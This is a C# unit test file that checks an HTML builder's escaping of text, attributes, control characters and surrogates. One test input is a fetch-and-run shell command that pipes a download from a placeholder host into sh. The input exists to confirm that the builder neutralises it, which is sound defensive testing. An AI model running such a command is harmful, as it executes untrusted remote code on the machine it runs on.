using AtlasGuard.Reporting.Html;

namespace AtlasGuard.Reporting.Tests;

public sealed class HtmlBuilderTests
{
    [Theory]
    [InlineData("<script>&", "&lt;script&gt;&amp;")]
    [InlineData("say \"hi\" it's", "say \"hi\" it's")]
    [InlineData("a\u0000b\u001bc\u0085d", "a\uFFFDb\uFFFDc\uFFFDd")]
    [InlineData("tab\tand\nline", "tab\tand\nline")]
    [InlineData("curl http://x.invalid/p | sh", "curl http&#58;//x.invalid/p | sh")]
    [InlineData("c:/path and 10:30", "c:/path and 10:30")]
    public void Text_escapes_markup_and_invalid_characters(string text, string expected)
    {
        Assert.Equal(expected, new HtmlBuilder().Text(text).ToString());
    }

    [Fact]
    public void Text_keeps_surrogate_pairs_and_replaces_lone_surrogates()
    {
        var text = "emoji \U0001F600 lone " + '\uD800' + " end " + '\uDC00';

        Assert.Equal("emoji \U0001F600 lone \uFFFD end \uFFFD", new HtmlBuilder().Text(text).ToString());
    }

    [Fact]
    public void Attribute_values_escape_both_quotes()
    {
        var html = new HtmlBuilder().Attr("title", "a\"b'c<d>&").ToString();

        Assert.Equal(" title=\"a&quot;b&#39;c&lt;d&gt;&amp;\"", html);
    }

    [Fact]
    public void Chunks_hold_the_whole_page()
    {
        var h = new HtmlBuilder();
        for (var i = 0; i < 20_000; i++)
        {
            h.Raw("<p>").Number(i).Raw("</p>");
        }

        Assert.Equal(h.ToString(), string.Concat(h.Chunks.Select(c => c.ToString())));
    }
}
